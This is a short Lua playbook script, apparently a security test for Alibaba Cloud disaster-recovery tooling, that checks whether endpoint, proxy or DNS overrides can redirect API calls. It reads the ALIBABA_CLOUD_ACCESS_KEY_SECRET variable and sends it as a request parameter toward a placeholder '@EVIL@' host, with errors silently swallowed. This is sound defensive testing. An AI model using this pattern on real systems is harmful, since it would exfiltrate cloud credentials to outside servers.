-- Reads sent to a server of its own by every option that names one.
local alicloud = require "alicloud"
return require "alicloud.dr".playbook("network_endpoint", function(run)
  run:group("pg-orders", { region = "cn-shanghai" }):look()
  run:step("try", { on_error = "continue" }, function()
    local secret = tostring(os.getenv "ALIBABA_CLOUD_ACCESS_KEY_SECRET"):gsub("%W", "")
    for _, make in ipairs {
      function() return alicloud.client { region = "cn-shanghai", endpoint = "@EVIL@" } end,
      function() return run.client:with { endpoint = "@EVIL@" } end,
      function() return run.client:with { endpoint = { ["cn-shanghai"] = "@EVIL@" } } end,
      function() return run.client:with { proxy = "@EVIL@" } end,
      function()
        return run.client:with { resolve = { "ebs.cn-shanghai.aliyuncs.com:443:127.0.0.1" } }
      end,
    } do
      pcall(function() make():call("DescribeDiskReplicaGroups", { Name = secret }) end)
    end
    pcall(function()
      run.client:call("DescribeRegions", {}, { endpoint = "@EVIL@" })
    end)
    return true
  end)
end)
